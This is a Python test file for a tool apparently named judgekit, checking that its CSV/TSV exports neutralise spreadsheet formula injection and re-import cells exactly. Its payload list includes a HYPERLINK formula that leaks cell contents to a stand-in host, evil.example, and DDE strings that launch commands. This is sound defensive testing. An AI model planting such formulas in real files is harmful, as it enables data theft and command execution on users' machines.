"""CSV formula injection (issue 16): exported cells never start a formula, and judgekit's import undoes it exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from judgekit.io import (
    export_items,
    export_labels,
    export_verdicts,
    import_items_file,
    import_labels_file,
    import_verdicts_file,
)
from judgekit.io.spreadsheet import FORMULA_TRIGGERS, escape_formula, unescape_formula
from judgekit.storage import Project
from tests.helpers import rubric, write_jsonl

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already escaped by someone",
    "''-1",
    "'Tis fine",
    "=",
    "-",
]
# text from the alphabet that matters here: apostrophes, triggers, and plain characters
FORMULA_TEXT = st.text(alphabet=st.sampled_from(["'", *FORMULA_TRIGGERS, "a", " ", "1", '"', ",", "\n"]), max_size=8)


@given(st.one_of(FORMULA_TEXT, st.text(max_size=30)))
def test_escape_is_undone_exactly_and_never_leaves_a_formula(text: str) -> None:
    cell = escape_formula(text)
    assert unescape_formula(cell) == text
    assert cell[:1] not in FORMULA_TRIGGERS
    # a cell nobody escaped is read as it is unless it has exactly the escaped shape
    if cell == text:
        assert unescape_formula(text) == text


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_exports_neutralise_formulas_and_reimport_exactly(tmp_path: Path, fmt: str) -> None:
    r = rubric()
    p = Project(tmp_path / "p.db")
    items = [{"id": f"i{n}", "input": payload, "output": payload} for n, payload in enumerate(PAYLOADS)]
    items.append({"id": "=evil-id", "input": "@x", "output": "-", "segment": "+seg", "source": "=src"})
    import_items_file(p, write_jsonl(tmp_path / "items.jsonl", items))
    labels = [
        {"item_id": f"i{n}", "annotator": "@ann", "label": "fail", "critique": payload}
        for n, payload in enumerate(PAYLOADS)
    ]
    import_labels_file(p, write_jsonl(tmp_path / "labels.jsonl", labels), r)
    verdicts = [{"item_id": f"i{n}", "label": "pass", "rationale": x} for n, x in enumerate(PAYLOADS)]
    verdicts.append({"item_id": "=evil-id", "status": "parse_error", "raw_reply": "=1+1"})
    import_verdicts_file(p, write_jsonl(tmp_path / "v.jsonl", verdicts), r, run_name="run")

    delimiter = "\t" if fmt == "tsv" else ","
    exported = {
        "items": export_items(p, fmt),  # type: ignore[arg-type]
        "labels": export_labels(p, fmt, history=True),  # type: ignore[arg-type]
        "verdicts": export_verdicts(p, "run", fmt),  # type: ignore[arg-type]
    }
    for text in exported.values():
        cells = _cells(text, delimiter)
        assert cells and not [c for c in cells if c[:1] in FORMULA_TRIGGERS], "a cell would run as a formula"
        assert "'=HYPERLINK(" in text
    fresh = Project(tmp_path / "fresh.db")
    for kind, text in exported.items():
        (tmp_path / f"out-{kind}.{fmt}").write_text(text, newline="")
    import_items_file(fresh, tmp_path / f"out-items.{fmt}")
    import_labels_file(fresh, tmp_path / f"out-labels.{fmt}", r)
    import_verdicts_file(fresh, tmp_path / f"out-verdicts.{fmt}", r, run_name="run")
    assert [i.model_dump() for i in fresh.items()] == [i.model_dump() for i in p.items()]
    # critiques are stripped on the way in, as the labeling app strips them (Rubric.check_answer)
    assert [lab.critique for lab in fresh.labels()] == [x.strip() or None for x in PAYLOADS]
    assert [lab.critique for lab in p.labels()] == [x.strip() or None for x in PAYLOADS]
    assert export_labels(fresh, fmt, history=True) == exported["labels"]  # type: ignore[arg-type]
    assert export_verdicts(fresh, "run", fmt) == exported["verdicts"]  # type: ignore[arg-type]
    # JSONL needs no escaping: the text is exported exactly
    assert '"critique": "=HYPERLINK(' in export_labels(p, "jsonl")


def test_numbers_are_not_escaped(tmp_path: Path) -> None:
    r = rubric()
    p = Project(tmp_path / "p.db")
    import_items_file(p, write_jsonl(tmp_path / "items.jsonl", [{"id": "a", "input": "q", "output": "o"}]))
    import_verdicts_file(
        p, write_jsonl(tmp_path / "v.jsonl", [{"item_id": "a", "label": "pass", "cost_usd": 0.5}]), r, run_name="r"
    )
    row = next(csv.DictReader(io.StringIO(export_verdicts(p, "r", "csv"))))
    assert row["cost_usd"] == "0.5"


def test_a_csv_record_without_empty_cells_is_unescaped_too(tmp_path: Path) -> None:
    """Records with no empty cell take the reader's short path (cells mapped as they are): an escaped formula is
    still undone there, and apostrophes elsewhere in the text stay."""
    path = tmp_path / "items.csv"
    path.write_text(
        "id,input,output,context\r\n"
        "a,'=1+1,it's fine,c\r\n"  # escaped formula; an apostrophe inside a cell
        "b,q,'Tis,c\r\n"  # a leading apostrophe that escapes nothing
        'c,"\'@x","\'\'=1",c\r\n'  # quoted escapes
        "d,'=2,o,\r\n",  # an empty cell: the general path
        encoding="utf-8",
    )
    p = Project(tmp_path / "p.db")
    import_items_file(p, path)
    got = {i.id: (i.input, i.output, i.context) for i in p.items()}
    assert got == {
        "a": ("=1+1", "it's fine", "c"),
        "b": ("q", "'Tis", "c"),
        "c": ("@x", "'=1", "c"),
        "d": ("=2", "o", None),
    }
